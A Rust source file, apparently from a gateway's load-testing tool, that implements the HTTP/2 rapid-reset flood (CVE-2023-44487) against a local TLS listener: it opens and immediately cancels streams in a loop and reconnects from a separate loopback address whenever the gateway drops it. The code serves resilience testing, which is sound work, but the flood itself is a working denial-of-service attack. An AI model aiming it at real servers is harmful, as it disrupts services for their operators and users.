//! The rapid-reset flood of `loadtest tls` (the CVE-2023-44487 pattern): an HTTP/2 connection
//! that opens streams and cancels each at once, as fast as the connection takes them; when the
//! gateway closes it, the next one, from its own source address (127.0.0.2 by default; the valid
//! users come from 127.0.0.1). Runs as its own process, pinned beside the load generator,
//! and prints what it did as JSON.

use std::net::{IpAddr, SocketAddr};
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use pingora::tls::{CertificateDer, ClientConfig, RootCertStore, ServerName, TlsConnector};
use rustls_pki_types::pem::PemObject;
use tokio::time::Instant;

#[derive(clap::Args)]
pub struct ClientOptions {
    /// The gateway's TLS listener.
    #[arg(long)]
    addr: SocketAddr,
    /// The CA that signed its certificate (for `localhost`).
    #[arg(long)]
    ca: PathBuf,
    #[arg(long)]
    duration_ms: u64,
    #[arg(long, default_value = "/api/item")]
    path: String,
    /// The flood's own source address (a loopback address other than the valid users').
    #[arg(long, default_value = "127.0.0.2")]
    bind: IpAddr,
}

/// What the flood did.
#[derive(Default)]
struct Done {
    connections: u64,
    /// Streams opened and reset.
    resets: u64,
    /// Connections the gateway refused or cut before a stream was opened.
    failed: u64,
}

pub fn client(options: &ClientOptions) -> Result<(), String> {
    let pem = std::fs::read(&options.ca).map_err(|e| format!("{}: {e}", options.ca.display()))?;
    let ca = CertificateDer::from_pem_slice(&pem).map_err(|e| format!("CA: {e}"))?;
    pingora::tls::install_default_crypto_provider();
    let mut roots = RootCertStore::empty();
    roots.add(ca).map_err(|e| format!("CA: {e}"))?;
    let mut config = ClientConfig::builder()
        .with_root_certificates(roots)
        .with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    let connector = TlsConnector::from(Arc::new(config));
    let uri = format!("https://localhost:{}{}", options.addr.port(), options.path);
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .map_err(|e| format!("runtime: {e}"))?;
    let done = runtime.block_on(async {
        let deadline = Instant::now() + Duration::from_millis(options.duration_ms);
        let mut done = Done::default();
        while Instant::now() < deadline {
            done.connections += 1;
            let flood = flood_one(
                &connector,
                options.bind,
                options.addr,
                &uri,
                &mut done.resets,
            );
            match tokio::time::timeout_at(deadline, flood).await {
                Ok(Ok(())) | Err(_) => {}
                Ok(Err(_)) => done.failed += 1,
            }
        }
        done
    });
    println!(
        "{{\"connections\":{},\"resets\":{},\"failed\":{}}}",
        done.connections, done.resets, done.failed
    );
    Ok(())
}

/// One connection: streams opened and reset until the gateway closes it.
async fn flood_one(
    connector: &TlsConnector,
    bind: IpAddr,
    addr: SocketAddr,
    uri: &str,
    resets: &mut u64,
) -> Result<(), String> {
    let socket = match bind {
        IpAddr::V4(_) => tokio::net::TcpSocket::new_v4(),
        IpAddr::V6(_) => tokio::net::TcpSocket::new_v6(),
    }
    .map_err(|e| e.to_string())?;
    socket
        .bind(SocketAddr::new(bind, 0))
        .map_err(|e| format!("bind {bind}: {e}"))?;
    let tcp = socket.connect(addr).await.map_err(|e| e.to_string())?;
    let name = ServerName::try_from("localhost").map_err(|e| e.to_string())?;
    let tls = connector
        .connect(name, tcp)
        .await
        .map_err(|e| e.to_string())?;
    let (send, connection) = h2::client::handshake(tls)
        .await
        .map_err(|e| e.to_string())?;
    let driver = tokio::spawn(connection);
    let mut send = send.ready().await.map_err(|e| e.to_string())?;
    loop {
        let request = http::Request::get(uri)
            .body(())
            .map_err(|e| e.to_string())?;
        let Ok((_response, mut stream)) = send.send_request(request, false) else {
            break;
        };
        stream.send_reset(h2::Reason::CANCEL);
        *resets += 1;
        // The connection's task writes the frames: let it run.
        tokio::task::yield_now().await;
        send = match send.ready().await {
            Ok(ready) => ready,
            Err(_) => break,
        };
        if driver.is_finished() {
            break;
        }
    }
    driver.abort();
    Ok(())
}
